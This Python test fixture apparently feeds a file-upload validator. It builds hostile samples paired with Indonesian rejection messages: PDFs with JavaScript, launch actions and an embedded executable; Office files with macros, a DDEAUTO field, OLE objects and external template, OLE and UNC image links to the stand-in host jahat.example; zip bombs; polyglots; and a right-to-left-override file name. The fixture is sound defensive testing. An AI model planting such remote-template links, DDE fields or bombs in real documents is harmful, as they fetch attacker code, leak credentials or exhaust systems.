"""Files that harm whoever opens them, made as attackers make them: name, bytes, what is said."""

import zipfile
from functools import cache
from io import BytesIO
from typing import NamedTuple

from PIL import Image

from tests.files.making import LAUNCH, SCRIPT, office, ole, pdf, photograph
from tests.files.test_reading import carrying, named_script, on_a_page, opening

RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
RELATION = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
)
MACRO, OBJECT, LINK = "memuat makro", "membawa objek atau program", "mengambil isi dari berkas"
LIE, NO_KIND = "tidak sesuai dengan namanya", "Jenis berkas ini tidak diterima"
MB = 1024 * 1024


class Hostile(NamedTuple):
    """What it is called, what is in it, and the words with which it is refused."""

    name: str
    content: bytes
    said: str


def led_to(kind, target, folder="word"):
    """A file of Office with a relation to something elsewhere."""
    part = f"{folder}___rels__{'document' if folder == 'word' else 'workbook'}.xml.rels"
    return office(folder, **{part: RELATIONS.format(RELATION.format(kind, target))})


def swollen(folder, megabytes):
    """So many megabytes of nothing in a few kilobytes."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr("[Content_Types].xml", "<Types/>")
        with pack.open(f"{folder}/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(bytes(MB))
    return file.getvalue()


def picture(width, height):
    file = BytesIO()
    Image.new("1", (width, height)).save(file, "PNG")
    return file.getvalue()


FIELD = "<w:p><w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText></w:p>"
EXE = b"MZ\x90\x00\x03" + bytes(400)


@cache
def hostile_files():
    """All of them; made once, for the bombs take a while."""
    return (
        Hostile("naskah.pdf", pdf(change=named_script), "memuat program"),
        Hostile("buka.pdf", pdf(change=opening(SCRIPT)), "memuat program"),
        Hostile("jalan.pdf", pdf(change=on_a_page(LAUNCH)), "memuat program"),
        Hostile("bawa.pdf", pdf(change=carrying("pasang.exe", EXE)), "berkas lain yang dapat"),
        Hostile("makro.xlsm", office("xl", xl__x="x"), MACRO),
        Hostile("makro.docm", office(word__x="x"), MACRO),
        Hostile("makro.xlsx", office("xl", **{"xl/vbaProject.bin": b"\xcc\x61"}), MACRO),
        Hostile("makro.docx", office(**{"word/vbaProject.bin": b"\xcc\x61"}), MACRO),
        Hostile("objek.docx", office(**{"word/embeddings/oleObject1.bin": ole("x")}), OBJECT),
        Hostile("objek.xlsx", office("xl", **{"xl/activeX/activeX1.bin": b"x"}), OBJECT),
        Hostile("exe.docx", office(**{"word/media/foto.exe": EXE}), OBJECT),
        Hostile("dde.docx", office(**{"word/footer1.xml": FIELD}), OBJECT),
        Hostile("ole.docx", led_to("oleObject", "mhtml:http://jahat.example/x!x-usc:y"), OBJECT),
        Hostile("templat.docx", led_to("attachedTemplate", "http://jahat.example/x.dotm"), LINK),
        Hostile("gambar.docx", led_to("image", r"file:///\\jahat.example\x.png"), LINK),
        Hostile("tautan.xlsx", office("xl", **{"xl/externalLinks/externalLink1.xml": "x"}), LINK),
        Hostile("koneksi.xlsx", led_to("connections", "http://jahat.example/", "xl"), LINK),
        Hostile("500mb.xlsx", swollen("xl", 500), "lebih dari 200 MB"),
        Hostile("bom.docx", swollen("word", 150), "membengkak lebih dari seratus kali"),
        Hostile(
            "anggota.docx",
            office(**{f"word/{number}.xml": "" for number in range(5001)}),
            "lebih dari 200 MB",
        ),
        Hostile("besar.png", picture(9000, 6000), "lebih dari 50 megapiksel"),
        Hostile("dua.pdf", b"PK\x03\x04" + pdf(), LIE),
        Hostile("dua-exe.pdf", EXE[:100] + pdf(), LIE),
        Hostile("dua-html.pdf", b"<script>alert(1)</script>" + pdf(), LIE),
        Hostile("exe.pdf", EXE, LIE),
        Hostile("html.jpg", b"<html><script>alert(1)</script>", LIE),
        Hostile("exe.docx", EXE, LIE),
        Hostile("tabel.docx", office("xl"), LIE),
        Hostile("surat.pdf.exe", pdf(), NO_KIND),
        Hostile("surat\u202efdp.exe", EXE, NO_KIND),
        Hostile("halaman.html", b"<html></html>", NO_KIND),
        Hostile("gambar.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", NO_KIND),
    )


def harmless_files():
    """Two things in one, of which only the one that is told is ever served: name, bytes, type."""
    return (
        ("ekor.pdf", pdf() + b"\n%" + b"<script>alert(1)</script>", "application/pdf"),
        ("ekor.jpg", photograph() + b"<script>alert(1)</script>", "image/jpeg"),
        ("ekor-zip.jpg", photograph() + office(), "image/jpeg"),
    )
